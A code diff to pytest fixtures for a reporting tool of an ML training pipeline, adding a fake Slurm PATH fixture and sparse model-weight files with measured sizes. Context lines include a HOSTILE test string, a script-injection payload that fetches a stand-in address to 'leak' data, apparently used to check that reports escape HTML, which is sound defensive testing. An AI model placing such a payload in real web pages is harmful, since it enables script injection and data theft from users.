@@ -12,6 +12,8 @@ from typing import Any
 
 import pytest
 
+from tests.reporting.fake_slurm import FakeSlurm
+
 START = 1_795_395_600.0
 HOSTILE = '<script>document.title = "owned"; fetch("http://203.0.113.7/leak")</script>'
 WRITTEN = [
@@ -117,15 +119,9 @@ def answers(model: str, chance: random.Random) -> list[dict[str, Any]]:
 
 
 METRICS = {
-    "reward": True,
-    "sentiment": True,
-    "relevance": True,
-    "stop_rate": True,
-    "tokens": None,
-    "repetition": False,
-    "kl": None,
-    "heldout_nll": False,
-}
+    "reward": True, "sentiment": True, "relevance": True, "stop_rate": True, "tokens": None, "repetition": False,
+    "kl": None, "heldout_nll": False,
+}  # fmt: skip
 
 
 def column(row: dict[str, Any], metric: str) -> float:
@@ -304,7 +300,12 @@ NODES: dict[str, tuple[str, str, dict[str, str], float]] = {
 }
 
 
-def record(name: str, began: float, metrics: dict[str, float]) -> dict[str, Any]:
+def record(name: str, began: float, metrics: dict[str, float], folder: Path) -> dict[str, Any]:
+    """Of what lies in the folder: with all weights a hole, of the size of the real ones."""
+    (folder / "model").mkdir(parents=True)
+    with open(folder / "model" / "model.safetensors", "wb") as stream:
+        stream.truncate(538_000_000)
+    files = {str(path.relative_to(folder)): path.stat().st_size for path in folder.rglob("*") if path.is_file()}
     kind, stage, inputs, seconds = NODES[name]
     return {
         "key": key(name),
@@ -320,10 +321,7 @@ def record(name: str, began: float, metrics: dict[str, float]) -> dict[str, Any]
         "finished": began + seconds,
         "seconds": seconds,
         "metrics": metrics,
-        "files": {
-            "metrics.jsonl": {"bytes": 2_400, "sha256": key("m")},
-            "model/model.safetensors": {"bytes": 538_000_000, "sha256": key("w")},
-        },
+        "files": {file: {"bytes": size, "sha256": key(file)} for file, size in files.items()},
         "attempts": 1,
     }
 
@@ -359,9 +357,9 @@ def build(root: Path, names: list[str] | None = None, states: dict[str, str] | N
         if state in ("done", "reused"):
             folder = root / "store" / key(name)[:16]
             metrics = JUDGED if kind == "judge" else {}
-            write(folder / "record.json", record(name, began, metrics))
             for file, value in contents(name, by_model, chance).items():
                 write(folder / file, value)
+            write(folder / "record.json", record(name, began, metrics, folder))
         began += seconds
     config = {
         "name": "quickstart",
@@ -392,3 +390,10 @@ def make_run(tmp_path: Path) -> Callable[..., tuple[Path, Path]]:
         return build(tmp_path / "outputs", names, states)
 
     return make
+
+
+@pytest.fixture
+def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeSlurm:
+    (tmp_path / "bin").mkdir()
+    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
+    return FakeSlurm(tmp_path / "bin")
